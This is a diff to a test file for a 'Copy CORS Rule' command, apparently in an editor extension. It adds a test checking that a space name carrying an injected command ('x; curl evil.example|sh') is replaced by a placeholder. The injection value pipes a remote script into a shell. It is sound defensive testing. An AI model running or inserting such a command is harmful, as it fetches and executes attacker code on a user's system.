@@ -36,6 +36,12 @@ describe('Copy CORS Rule', () => {
     );
   });
 
+  it('puts no name into a command that a Space can not have', async () => {
+    const { notices, deps } = setup();
+    await copyCorsRule(deps, { as: 'xml', space: 'x; curl evil.example|sh' });
+    assert.match(notices.last.message, /s3:\/\/SPACE$/);
+  });
+
   it('in a browser is for the page that the editor runs in, where that is not vscode.dev', async () => {
     const elsewhere = setup('https://code.example.com');
     assert.match(await copyCorsRule(elsewhere.deps, { as: 'xml' }), />https:\/\/code\.example\.com</);
